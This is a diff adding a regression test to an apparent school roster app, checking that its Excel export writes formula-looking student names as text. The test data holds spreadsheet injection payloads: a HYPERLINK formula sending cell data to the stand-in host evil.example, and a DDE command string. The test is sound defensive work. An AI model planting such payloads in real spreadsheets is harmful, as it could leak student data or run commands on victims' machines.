@@ -42,3 +42,24 @@ def test_print_paginates_with_every_visible_student(qtbot, school_store, tmp_pat
     text = " ".join(words)
     assert all(row[0] in text and row[1] in text for row in rows)  # every id and last name
     assert "page 2" in words[1]
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path):
+    """A student named =HYPERLINK(…) once became a live formula in every
+    school's exports."""
+    import zipfile
+
+    from reports.excel import write_table
+    evil = ['=HYPERLINK("http://evil.example/?"&A3,"Click for the report")',
+            "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"]
+    rows = [("9000000001", name, "9") for name in evil] + [("9000000002", "Nguyen-Ruiz", "10")]
+    path = write_table(tmp_path / "roster.xlsx", title="=1+1 roster",
+                       headers=["Student ID", "Name", "Grade"], rows=rows)
+    with zipfile.ZipFile(path) as xlsx:
+        sheet_xml = xlsx.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
+    cells = list(load_workbook(path).active.iter_rows(values_only=True))
+    assert cells[0][0] == "=1+1 roster"
+    assert [c[1] for c in cells[2:]] == evil + ["Nguyen-Ruiz"]
+    types = [row[1].data_type for row in load_workbook(path).active.iter_rows(min_row=3)]
+    assert set(types) == {"s"}
